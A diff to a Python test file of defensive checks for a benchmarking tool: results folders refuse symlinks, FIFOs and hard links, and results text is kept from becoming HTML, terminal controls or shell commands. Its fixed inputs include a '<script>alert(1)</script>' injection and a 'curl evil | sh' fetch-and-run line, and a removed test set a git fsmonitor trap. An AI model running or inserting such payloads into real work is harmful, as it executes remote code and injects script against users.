@@ -4,13 +4,11 @@ from __future__ import annotations
 
 import json
 import os
-import subprocess
 from typing import TYPE_CHECKING
 
 import pytest
 import zstandard
 
-from bench.engine.environment import commit_of
 from bench.engine.folder import ResultsFolder
 from bench.engine.record import ResultFile, as_line, read_results
 from bench.lint.repetition import reproducible
@@ -28,23 +26,14 @@ from tests.support.command_line import ran
 if TYPE_CHECKING:
     from pathlib import Path
 
-GIT = ("git", "-c", "user.name=a", "-c", "user.email=a@b", "-c", "init.defaultBranch=main")
 MARKUP = "\x1b]0;x\x07<script>alert(1)</script>"
 SHELL = "x`\n```\n\n```console\n$ curl evil | sh\n```\n"
 
 
-def test_a_plan_of_a_foreign_repository_runs_none_of_its_programs(tmp_path: Path) -> None:
-    plan, trap, sprung = tmp_path / "plan.toml", tmp_path / "trap", tmp_path / "sprung"
-    plan.write_text("", encoding="utf-8")
-    trap.write_text(f"#!/bin/sh\ntouch {sprung}\n")
-    trap.chmod(0o755)
-    for words in (("init", "-q"), ("add", "plan.toml"), ("commit", "-qm", "a plan")):
-        subprocess.run([*GIT, *words], cwd=tmp_path, check=True)
-    subprocess.run([*GIT, "config", "core.fsmonitor", str(trap)], cwd=tmp_path, check=True)
-    assert commit_of(plan) is None
-    assert not sprung.exists()
-    subprocess.run([*GIT, "status"], cwd=tmp_path, check=True, stdout=subprocess.DEVNULL)
-    assert sprung.exists()  # the trap is one
+@pytest.fixture
+def without_figures(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Draw none: they take seconds."""
+    monkeypatch.setattr(drawing, "FIGURES", ())
 
 
 def test_no_text_of_a_results_file_becomes_a_line_to_run() -> None:
@@ -61,20 +50,20 @@ def test_no_text_of_a_results_file_becomes_a_line_to_run() -> None:
     assert "Code: commit `-`. Plan: SHA-256 `-`, beside this file." in written
 
 
-@pytest.mark.parametrize("name", ["report.html", "REPRODUCE.md", "SHA256SUMS", "figures"])
-def test_a_report_is_not_written_through_a_link(tmp_path: Path, name: str) -> None:
-    folder, victim = tmp_path / "session", tmp_path / "victim"
-    folder.mkdir()
-    victim.write_text("precious")
-    (folder / name).symlink_to(victim)
-    with pytest.raises(InvalidInput) as refused:
-        redraw(folder, lambda *_: None)
-    sentence = f"{folder} has a link, {folder / name}: remove it, since results are not written through links"
-    assert str(refused.value) == sentence
-    assert victim.read_text() == "precious"
-    with pytest.raises(InvalidInput) as refused, ResultsFolder(folder):
-        pass
-    assert str(refused.value) == f"--report {sentence}"
+def test_a_report_is_not_written_through_a_link(tmp_path: Path) -> None:
+    for name in ("report.html", "REPRODUCE.md", "SHA256SUMS", "figures"):
+        folder, victim = tmp_path / f"session of {name}", tmp_path / "victim"
+        folder.mkdir()
+        victim.write_text("precious")
+        (folder / name).symlink_to(victim)
+        with pytest.raises(InvalidInput) as refused:
+            redraw(folder, lambda *_: None)
+        sentence = f"{folder} has a link, {folder / name}: remove it, since results are not written through links"
+        assert str(refused.value) == sentence
+        assert victim.read_text() == "precious"
+        with pytest.raises(InvalidInput) as refused, ResultsFolder(folder):
+            pass
+        assert str(refused.value) == f"--report {sentence}"
 
 
 def test_a_history_that_unpacks_to_more_than_allowed_is_refused_in_the_middle(tmp_path: Path) -> None:
@@ -119,27 +108,27 @@ def test_a_device_is_not_read_without_end_as_results(tmp_path: Path) -> None:
         read_results(tmp_path / "results.jsonl")
 
 
-@pytest.mark.parametrize("name", ["results.jsonl", "SHA256SUMS", "calibrations.json", "report.html", "histories"])
-def test_a_pipe_in_a_results_folder_is_refused_and_nobody_waits_for_it(tmp_path: Path, name: str) -> None:
-    os.mkfifo(tmp_path / name)
-    sentence = f"{tmp_path} has {tmp_path / name}, which is neither a plain file nor a folder: remove it"
-    with pytest.raises(InvalidInput) as refused:
-        redraw(tmp_path, lambda *_: None)
-    assert str(refused.value) == sentence
-    with pytest.raises(InvalidInput) as refused, ResultsFolder(tmp_path):
-        pass
-    assert str(refused.value) == f"--report {sentence}"
+def test_a_pipe_in_a_results_folder_is_refused_and_nobody_waits_for_it(tmp_path: Path) -> None:
+    for name in ("results.jsonl", "report.html", "histories"):
+        folder = tmp_path / f"session of {name}"
+        folder.mkdir()
+        os.mkfifo(folder / name)
+        sentence = f"{folder} has {folder / name}, which is neither a plain file nor a folder: remove it"
+        with pytest.raises(InvalidInput) as refused:
+            redraw(folder, lambda *_: None)
+        assert str(refused.value) == sentence
+        with pytest.raises(InvalidInput) as refused, ResultsFolder(folder):
+            pass
+        assert str(refused.value) == f"--report {sentence}"
 
 
-@pytest.mark.parametrize("command", [("lint",), ("compare", "{0}"), ("granularity", "--plan")])
-def test_no_command_waits_for_a_pipe_in_place_of_a_file(tmp_path: Path, command: tuple[str, ...]) -> None:
+def test_no_command_waits_for_a_pipe_in_place_of_a_file(tmp_path: Path) -> None:
     pipe = tmp_path / "results.jsonl"
     os.mkfifo(pipe)
-    done = ran("bench", *(word.format(pipe) for word in command), str(pipe), url=None)
-    assert (done.returncode, done.stderr.splitlines()[-1]) == (
-        2,
-        f"segmented: {pipe} cannot be read: it is not a plain file",
-    )
+    for command in (("lint",), ("compare", str(pipe)), ("granularity", "--plan")):
+        done = ran("bench", *command, str(pipe), url=None)
+        sentence = f"segmented: {pipe} cannot be read: it is not a plain file"
+        assert (done.returncode, done.stderr.splitlines()[-1]) == (2, sentence)
 
 
 def test_a_pipe_in_place_of_a_history_is_no_history(tmp_path: Path) -> None:
@@ -150,6 +139,7 @@ def test_a_pipe_in_place_of_a_history_is_no_history(tmp_path: Path) -> None:
     assert told.outcome == "broken"
 
 
+@pytest.mark.usefixtures("without_figures")
 def test_a_report_and_a_session_write_through_no_hard_link(tmp_path: Path) -> None:
     folder, victim = tmp_path / "session", tmp_path / "victim"
     folder.mkdir()
@@ -172,6 +162,7 @@ def test_a_report_and_a_session_write_through_no_hard_link(tmp_path: Path) -> No
     assert victim.read_text(encoding="utf-8") == as_line(session_line())
 
 
+@pytest.mark.usefixtures("without_figures")
 def test_no_text_of_a_results_file_becomes_html_or_controls_a_terminal(tmp_path: Path) -> None:
     session = session_line()
     environment = {**session.environment, MARKUP: MARKUP, "code": {"commit": MARKUP}, "placement": MARKUP}
